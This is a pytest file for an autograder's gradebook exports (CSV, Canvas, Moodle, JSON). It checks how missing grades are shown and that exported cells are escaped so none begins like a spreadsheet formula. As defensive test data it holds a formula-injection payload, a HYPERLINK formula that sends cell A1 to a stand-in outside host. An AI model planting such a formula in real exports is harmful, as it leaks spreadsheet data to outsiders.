"""Exports: what is no grade is no number, a name is no formula, and the systems can read what is theirs."""

from __future__ import annotations

import csv
import json
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from records_of import DAY, attempt, by_hand, class_of

from autograder.classroom.exports import FORMATS, FORMULA, TABLE_COLUMNS, cell
from autograder.classroom.standing import ClassRecords, Person

ATTACK = '=HYPERLINK("http://outside.example/?"&A1,"me")'


@pytest.fixture
def records() -> ClassRecords:
    attempts = {
        "ada": [attempt(1, 60)],
        "zero": [attempt(1, 0, who="zero")],
        "lost": [attempt(1, None, who="lost", status="infrastructure_error")],
        "new": [attempt(1, None, who="new", verdict=False)],
        "absent": [],
    }
    people = [Person("ada", "Ada", ATTACK, "ada@x.example", "77"), Person("absent", "-1+1", "@SUM(1)", "", "")]
    grades = [by_hand("deep_dive", 12.5)]
    zero = by_hand("deep_dive", 0.0)
    return class_of(attempts, [*grades, type(zero)("zero", *list(vars(zero).values())[1:])], people=people)


def rows(records: ClassRecords, form: str) -> list[list[str]]:
    return list(csv.reader(StringIO(FORMATS[form](records, records.standings()))))


def test_what_is_no_grade_is_an_empty_cell_and_says_what_it_is(records: ClassRecords) -> None:
    head, *lines = rows(records, "csv")
    assert tuple(head) == TABLE_COLUMNS
    found = {line[0]: dict(zip(head, line, strict=True)) for line in lines}
    assert (found["ada"]["state"], found["ada"]["score"], found["ada"]["written"]) == ("graded", "72.5", "12.5")
    assert (found["zero"]["state"], found["zero"]["score"]) == ("graded", "0")
    states = {"lost": "infrastructure error", "new": "not graded yet", "absent": "not submitted"}
    for who, state in states.items():
        assert found[who]["state"] == state
        for column in ("score", "judged", "written", "extra", "late_penalty"):
            assert found[who][column] == "", (who, column)
    document = json.loads(FORMATS["json"](records, records.standings()))
    by_student = {row["student"]: row for row in document["rows"]}
    assert by_student["ada"]["score"] == 72.5
    assert [task["points"] for task in by_student["ada"]["tasks"]] == [60, 0]
    for who, state in states.items():
        assert by_student[who]["state"] == state
        assert by_student[who]["score"] is None
        assert by_student[who]["tasks"] == []


def test_canvas_finds_its_columns_and_no_grade_is_empty(records: ClassRecords) -> None:
    head, possible, *lines = rows(records, "canvas")
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", DAY, f"{DAY} written answers"]
    # What Canvas looks at: lib/gradebook_importer.rb, `row_has_student_headers?` and `check_for_non_student_row`.
    assert "Student" in head[0]
    assert "ID" in head[1]
    assert "Points Possible" in possible[0]
    assert possible[5:] == ["100", "20"]
    found = {line[3]: line for line in lines}
    assert found["ada"][1] == "77"
    assert found["ada"][5:] == ["60", "12.5"]
    assert found["zero"][5:] == ["0", "0"]
    for who in ("lost", "new", "absent"):
        assert found[who][5:] == ["", ""]


def test_canvas_takes_no_student_for_the_row_of_points(records: ClassRecords) -> None:
    people = dict(records.people) | {"zero": Person("zero", "Points Possible", "x")}
    changed = ClassRecords(people, records.sheets, records.attempts, records.grades)
    lines = rows(changed, "canvas")
    assert [line[0] for line in lines if "Points Possible" in line[0]] == ["    Points Possible"]


def test_moodle_gets_a_dash_for_no_grade_and_nothing_else_that_is_no_number(records: ClassRecords) -> None:
    head, *lines = rows(records, "moodle")
    assert head[0] == "username"
    assert head[4:] == [DAY, f"{DAY} written answers"]
    found = {line[0]: line for line in lines}
    assert found["ada"][4:] == ["60", "12.5"]
    for who in ("lost", "new", "absent"):
        assert found[who][4:] == ["-", "-"]


@pytest.mark.parametrize("form", ["csv", "canvas", "moodle"])
def test_no_cell_is_a_formula(records: ClassRecords, form: str) -> None:
    people = {key: Person(key, "-2+3", ATTACK, "@x", "+1") for key in records.people}
    changed = ClassRecords(people, records.sheets, records.attempts, records.grades)
    for line in rows(changed, form):
        for text in line:
            assert not text.startswith(FORMULA) or (form == "moodle" and text == "-"), text
    assert any(f"'{ATTACK}" in text for line in rows(changed, form) for text in line)


@given(st.text(max_size=12) | st.builds("".join, st.lists(st.sampled_from("=+-@ \t\n\u200b\x1c\xa0\uff1da'"))))
def test_text_never_begins_like_a_formula(text: str) -> None:
    shown = cell(text)
    assert not shown.strip().startswith(FORMULA)
    plain = text.replace("\0", "")
    assert shown in (plain, f"'{plain}")
